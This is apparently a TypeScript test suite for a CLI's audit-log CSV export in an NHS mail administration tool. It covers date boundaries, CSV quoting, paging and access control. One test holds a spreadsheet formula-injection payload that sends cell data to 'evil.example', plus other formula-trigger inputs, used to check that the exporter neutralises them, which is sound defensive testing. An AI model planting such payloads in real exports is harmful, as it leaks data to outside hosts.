import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { localFiles } from '../../adapters/cli/files.js';
import { auditLog } from '../../db/schema.js';
import { AUDIT_CSV_COLUMNS, writeAuditCsv } from '../../src/commands/audit-csv.js';
import { runText } from '../../src/commands/execute.js';
import { InfrastructureError } from '../../src/domain/errors.js';
import { describeEachEngine } from '../support/engines.js';
import { activeAccount, as, operator, person, refusal, useService } from '../support/service.js';

/** Collects whatever is written to it, as the CLI's stdout would show it. */
class Collect extends Writable {
  text = '';
  override _write(chunk: Buffer, _encoding: BufferEncoding, done: () => void): void {
    this.text += chunk.toString('utf8');
    done();
  }
}

const csvRows = (text: string) => parse(text, { bom: true }) as string[][];

describeEachEngine('export audit', (ctx) => {
  const s = useService(ctx);
  let tmp = '';

  beforeAll(async () => {
    tmp = await mkdtemp(join(tmpdir(), 'nhsmail-export-'));
  });
  afterAll(async () => {
    if (tmp) await rm(tmp, { recursive: true, force: true });
  });

  /** Entries written straight to the append-only table, at exact instants. */
  async function entries(rows: Array<Partial<typeof auditLog.$inferInsert> & { at: Date }>): Promise<void> {
    await ctx.db.db
      .insert(auditLog)
      .values(rows.map((r) => ({ actor: 'operator', platform: 'cli' as const, action: 'note', ...r })));
  }

  it('exports the London days asked for, --to included, oldest first, whatever order they were written in', async () => {
    await entries([
      // 2026-07-01 in London (BST) runs from 2026-06-30T23:00Z to 2026-07-01T23:00Z.
      { at: new Date('2026-07-01T22:59:59.999Z'), reason: 'last moment of 1 July' },
      { at: new Date('2026-06-30T22:59:59.999Z'), reason: 'still 30 June in London' },
      { at: new Date('2026-06-30T23:00:00.000Z'), reason: 'midnight, 1 July in London' },
      { at: new Date('2026-07-01T23:00:00.000Z'), reason: '2 July in London' },
      { at: new Date('2026-07-01T12:00:00.000Z'), reason: 'noon' },
    ]);
    const exported = await s.lifecycle.exportAudit(operator(), { from: '2026-07-01', to: '2026-07-01' });
    expect(exported).toMatchObject({
      since: '2026-06-30T23:00:00.000Z',
      until: '2026-07-01T23:00:00.000Z',
    });
    const out = new Collect();
    expect(await writeAuditCsv(exported, out)).toBe(3);
    const [header, ...rows] = csvRows(out.text);
    expect(header).toEqual([...AUDIT_CSV_COLUMNS]);
    expect(rows.map((r) => [r[0], r[8]])).toEqual([
      ['2026-06-30T23:00:00.000Z', 'midnight, 1 July in London'],
      ['2026-07-01T12:00:00.000Z', 'noon'],
      ['2026-07-01T22:59:59.999Z', 'last moment of 1 July'],
    ]);

    // In winter London is on GMT: the day is the UTC day.
    await entries([
      { at: new Date('2026-12-01T00:00:00.000Z'), reason: 'winter midnight' },
      { at: new Date('2026-11-30T23:59:59.999Z'), reason: 'winter, day before' },
    ]);
    const winter = new Collect();
    await writeAuditCsv(
      await s.lifecycle.exportAudit(operator(), { from: '2026-12-01', to: '2026-12-31' }),
      winter,
    );
    expect(
      csvRows(winter.text)
        .slice(1)
        .map((r) => r[8]),
    ).toEqual(['winter midnight']);
  });

  it('carries every field, as the audit trail names them, with details as JSON', async () => {
    await s.lifecycle.addOrganisation(operator(), { ods: 'RXX', name: 'Northtown', kind: 'trust' });
    const address = await activeAccount(s.lifecycle, 'RXX', person('Jane', 'Doe'));
    await s.lifecycle.leaver(operator(), { address });
    await entries([{ at: new Date('2026-11-23T10:00:00Z'), action: 'note', details: { matches: ['gmc'] } }]);
    const out = new Collect();
    await writeAuditCsv(
      await s.lifecycle.exportAudit(operator(), { from: '2026-11-23', to: '2026-11-23' }),
      out,
    );
    const records = parse(out.text, { bom: true, columns: true }) as Array<Record<string, string>>;
    const trail = await s.lifecycle.auditTrail(operator(), { address });
    // The same entries `audit ADDRESS --json` shows, field for field, plus the details.
    expect(records.filter((r) => r.address === address).map(({ details: _details, ...r }) => r)).toEqual(
      trail.map((r) => ({
        at: r.at,
        actor: r.actor,
        platform: r.platform,
        action: r.action,
        address,
        org: r.org ?? '',
        from: r.from ?? '',
        to: r.to ?? '',
        reason: r.reason ?? '',
      })),
    );
    expect(records.find((r) => r.action === 'provision')?.details).toBe('{"delivery":"envelope"}');
    expect(records.find((r) => r.action === 'leaver')?.details).toBe('');
    expect(records.map((r) => r.action)).toEqual(['org-add', 'provision', 'first-login', 'leaver', 'note']);
    expect(records.at(-1)?.details).toBe('{"matches":["gmc"]}');
  });

  it('quotes commas, quotes and line breaks, and neutralises formulas, in RFC 4180 CSV Excel opens cleanly', async () => {
    const tricky = [
      'Smith, Jones & Partners',
      'said "leave me"',
      'two\nlines',
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+44 7700 900123',
      '-2+3',
      '@SUM(A1:A9)',
      '\tindented',
      '\r=1+1',
      '＝1+1',
      'Seán Ó Briain',
    ];
    await entries(tricky.map((reason, i) => ({ at: new Date(Date.UTC(2026, 10, 2, 9, i)), reason })));
    const out = new Collect();
    await writeAuditCsv(
      await s.lifecycle.exportAudit(operator(), { from: '2026-11-02', to: '2026-11-02' }),
      out,
    );

    expect(out.text.startsWith('\uFEFFat,actor,platform,action,address,org,from,to,reason,details\r\n')).toBe(
      true,
    );
    expect(out.text).toContain(',"Smith, Jones & Partners",');
    expect(out.text).toContain(',"said ""leave me""",');
    expect(out.text).toContain(',"two\nlines",');
    expect(out.text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(out.text.endsWith('\r\n')).toBe(true);
    // Read back: every value intact, each would-be formula led by a quote so it stays text.
    expect(
      csvRows(out.text)
        .slice(1)
        .map((r) => r[8]),
    ).toEqual([
      'Smith, Jones & Partners',
      'said "leave me"',
      'two\nlines',
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      "'+44 7700 900123",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\tindented",
      "'\r=1+1",
      "'＝1+1",
      'Seán Ó Briain',
    ]);
  });

  it('pages by (at, id) without losing or repeating an entry, even entries of the same microsecond', async () => {
    // PostgreSQL keeps microseconds that a JavaScript Date would round away: the cursor must not.
    for (const at of ['10:00:00.123456', '10:00:00.123456', '10:00:00.123457', '10:00:00.123', '10:00:01']) {
      await ctx.db.db.execute(
        sql`insert into audit_log (at, actor, platform, action, reason) values (${`2026-11-03 ${at}+00`}::timestamptz, 'operator', 'cli', 'note', ${at})`,
      );
    }
    for (const pageSize of [1, 2, 3, 1000]) {
      const exported = await s.lifecycle.exportAudit(operator(), {
        from: '2026-11-03',
        to: '2026-11-03',
        pageSize,
      });
      const reasons: string[] = [];
      for await (const page of exported.pages()) {
        expect(page.length).toBeLessThanOrEqual(pageSize);
        reasons.push(...page.map((r) => r.reason ?? ''));
        if (reasons.length > 10) break; // a cursor that repeats rows would page for ever
      }
      expect(reasons, `page size ${pageSize}`).toEqual([
        '10:00:00.123',
        '10:00:00.123456',
        '10:00:00.123456',
        '10:00:00.123457',
        '10:00:01',
      ]);
    }
  });

  it('writes --out whole and owner-only, and says where; an unwritable path changes nothing', async () => {
    await entries([{ at: new Date('2026-11-04T10:00:00Z'), reason: 'one' }]);
    const file = join(tmp, 'dspt-evidence.csv');
    const reply = await runText(
      s.lifecycle,
      operator(),
      ['export', 'audit', '--from', '2026-11-04', '--to', '2026-11-04', '--out', file],
      { files: localFiles },
    );
    expect(reply.exitCode).toBe(0);
    expect(reply.text).toBe(
      `Wrote 1 audit entry of 2026-11-04 to 2026-11-04 (London days: 2026-11-04T00:00:00.000Z to 2026-11-05T00:00:00.000Z) to ${file}.`,
    );
    expect(reply.data).toMatchObject({ rows: 1, file });
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect(csvRows(await readFile(file, 'utf8'))).toHaveLength(2);
    expect(await readdir(tmp)).toEqual(['dspt-evidence.csv']);

    // A file that cannot be written is the machine's failure, not the input's (the CLI's exit 3).
    const nowhere = runText(
      s.lifecycle,
      operator(),
      ['export', 'audit', '--from=2026-11-04', '--to=2026-11-04', `--out=${join(tmp, 'missing', 'x.csv')}`],
      { files: localFiles },
    );
    await expect(nowhere).rejects.toBeInstanceOf(InfrastructureError);
    await expect(nowhere).rejects.toMatchObject({ code: 'ENOENT' });
    expect(await readdir(tmp)).toEqual(['dspt-evidence.csv']);
    await expect(
      localFiles.write(tmp, async (out) =>
        writeAuditCsv(
          await s.lifecycle.exportAudit(operator(), { from: '2026-11-04', to: '2026-11-04' }),
          out,
          {
            end: true,
          },
        ),
      ),
    ).rejects.toThrow(/could not be written \(EISDIR: it is a directory\), so no export was written/);
    expect(await readdir(tmp)).toEqual(['dspt-evidence.csv']);
  });

  it('is the operator’s alone, and needs somewhere to write when there is no output stream', async () => {
    await s.lifecycle.grantRole(operator(), { address: 'nas@nhs.net', role: 'nas-admin' });
    await refusal(
      s.lifecycle.exportAudit(as('nas@nhs.net'), { from: '2026-11-01', to: '2026-11-30' }),
      'OPERATOR_ONLY',
    );
    const chat = await runText(
      s.lifecycle,
      as('nas@nhs.net'),
      'export audit --from 2026-11-01 --to 2026-11-30',
    );
    expect(chat.error?.code).toBe('OPERATOR_ONLY');
    const noOutput = await runText(s.lifecycle, operator(), 'export audit --from 2026-11-01 --to 2026-11-30');
    expect(noOutput.error?.code).toBe('OUT_REQUIRED');
    const streamed = new Collect();
    const reply = await runText(s.lifecycle, operator(), 'export audit --from 2026-11-01 --to 2026-11-30', {
      output: streamed,
    });
    expect(reply).toMatchObject({ ok: true, streamed: true, text: expect.any(String) });
    expect(streamed.text).toContain('at,actor,platform');
  });
});
